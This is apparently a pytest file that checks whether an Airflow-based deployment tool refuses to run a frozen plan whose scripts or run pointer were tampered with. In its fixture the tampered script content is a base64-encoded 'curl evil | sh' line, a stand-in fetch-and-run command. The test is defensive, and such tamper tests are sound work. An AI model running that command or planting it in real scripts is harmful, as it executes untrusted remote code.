"""A task whose frozen plan was changed in the record store refuses, in worker and triggerer alike, and says so."""

import asyncio
import base64
import json
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
import yaml
from airflow.sdk.exceptions import AirflowFailException

from builders import INFRASTRUCTURE, PLAN
from deployplan.airflow_glue.context import ledger_of
from deployplan.airflow_glue.dags.factory import build_dags
from deployplan.airflow_glue.dags.plans import plan_in_the_folder
from deployplan.airflow_glue.settings import settings
from deployplan.airflow_glue.triggers.step_trigger import StepTrigger
from deployplan.airflow_glue.triggers.window_trigger import WindowTrigger
from deployplan.evidence.entry import Entry
from deployplan.evidence.record import RunRecord

pytestmark = pytest.mark.airflow
RUN, WAVE = "run-1", "deploy.web.wave_1"
SCRIPTS = {"up.sh": "exit 0\n", "down.sh": "exit 0\n"}


@pytest.fixture
def digest(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    """The digest of a plan that a run has frozen, of which somebody has then changed a script in the record store."""
    include, key = tmp_path / "include", tmp_path / "signing.key"
    scripts = include / "plans" / "shop-2"
    scripts.mkdir(parents=True)
    (include / "infrastructure").mkdir()
    (include / "infrastructure" / "production.yaml").write_text(yaml.safe_dump(INFRASTRUCTURE))
    (include / "plans" / "shop-2.yaml").write_text(yaml.safe_dump(PLAN))
    for name, text in SCRIPTS.items():
        (scripts / name).write_text(text)
        (scripts / name).chmod(0o755)
    key.write_bytes(b"k" * 32)
    monkeypatch.setenv("DEPLOYPLAN_INCLUDE", str(include))
    monkeypatch.setenv("DEPLOYPLAN_RECORDS", str(tmp_path / "records"))
    monkeypatch.setenv("DEPLOYPLAN_SIGNING_KEY_FILE", str(key))
    monkeypatch.setenv("_AIRFLOW_PARSING_CONTEXT_DAG_ID", "shop-2")
    settings.cache_clear()
    frozen = plan_in_the_folder("shop-2")
    assert frozen is not None
    ledger_of("shop-2", RUN).record("plan_frozen", plan="shop-2", run=RUN, digest=frozen.digest)
    stored = json.loads(frozen.to_json())
    stored["scripts"][0]["content"] = base64.b64encode(b"curl evil | sh\n").decode()
    settings().record_store().save_snapshot("shop-2", frozen.digest, json.dumps(stored))
    settings().record_store().open_run("shop-2", RUN, frozen.digest)
    yield frozen.digest
    settings.cache_clear()


def record() -> RunRecord:
    return settings().record_store().run("shop-2", RUN)


def refused(entries: tuple[Entry, ...]) -> list[object]:
    return [entry.facts["task"] for entry in entries if entry.kind == "refused"]


def carry_out(task: str) -> None:
    """What a worker does: it builds the DAG of its task alone, and has the task do its work."""
    operator: Any = build_dags()["shop-2"].get_task(task)
    operator.execute({"dag_run": SimpleNamespace(run_id=RUN)})


@pytest.mark.parametrize("task", ["review.preflight", "review.approve_1", "deploy.arm", WAVE, "outcome"])
def test_a_worker_whose_frozen_script_was_changed_fails_the_task_for_good_and_leaves_evidence(
    digest: str, task: str
) -> None:
    with pytest.raises(AirflowFailException, match=r"nothing of it may run: trigger a new run"):
        carry_out(task)
    assert refused(record().ledger().entries()) == [task]


def waiting(trigger: Any, task: str) -> Any:
    trigger.task_instance = SimpleNamespace(run_id=RUN, task_id=task, task=None)
    return trigger


async def first_event(trigger: Any) -> Any:
    async for event in trigger.run():
        return event.payload
    return None


@pytest.mark.parametrize("task", ["verify.smoke", WAVE])
def test_a_trigger_whose_frozen_script_was_changed_hands_the_refusal_to_its_task_and_leaves_evidence(
    digest: str, task: str
) -> None:
    event = asyncio.run(first_event(waiting(StepTrigger("shop-2", digest), task)))
    assert event["error"] == "Refused"
    assert "nothing of it may run: trigger a new run" in event["why"]
    assert refused(record().ledger().entries()) == [task]


def test_a_run_that_waits_for_its_window_starts_nothing_of_a_plan_that_was_changed_meanwhile(digest: str) -> None:
    async def wait_a_moment() -> list[Any]:
        trigger, events = waiting(WindowTrigger("shop-2", digest), "window"), []

        async def follow() -> None:
            async for event in trigger.run():
                events.append(event)

        following = asyncio.create_task(follow())
        while not await asyncio.to_thread(lambda: refused(record().ledger().entries())):
            await asyncio.sleep(0.05)
        following.cancel()
        await asyncio.gather(following, return_exceptions=True)
        return events

    assert asyncio.run(asyncio.wait_for(wait_a_moment(), 60)) == []


def test_what_refuses_when_the_run_has_ended_is_kept_apart_and_breaks_no_seal(digest: str) -> None:
    record().ledger().seal()
    settings().record_store().close_run("shop-2", "another")
    for _ in range(2):
        with pytest.raises(AirflowFailException):
            carry_out(WAVE)
    found = record().verify()
    assert (found.ok, found.sealed) == (True, True)
    assert refused(record().apart().entries()) == [WAVE]
    assert refused(record().ledger().entries()) == []


def test_a_pointer_that_somebody_turned_to_another_frozen_plan_starts_nothing_of_it(digest: str) -> None:
    """`active/` is unsigned: what a run is about is what its own signed evidence froze."""
    store = settings().record_store()
    path = settings().documents().plan_path("shop-2")
    path.write_text(path.read_text().replace("./up.sh", "true"))
    other = plan_in_the_folder("shop-2")
    assert other is not None
    assert other.digest != digest
    store.save_snapshot("shop-2", other.digest, other.to_json())
    store.open_run("shop-2", RUN, other.digest)
    with pytest.raises(AirflowFailException, match="the plan has changed since this run froze it"):
        carry_out("window")
    assert refused(record().ledger().entries()) == ["window"]


def test_a_pointer_that_somebody_removed_or_turned_to_another_run_starts_nothing_of_the_file(digest: str) -> None:
    path = settings().documents().plan_path("shop-2")
    path.write_text(path.read_text().replace("./up.sh", "true"))
    settings().record_store().close_run("shop-2", RUN)
    with pytest.raises(AirflowFailException, match="the plan has changed since this run froze it"):
        carry_out("window")
    assert refused(record().ledger().entries()) == ["window"]
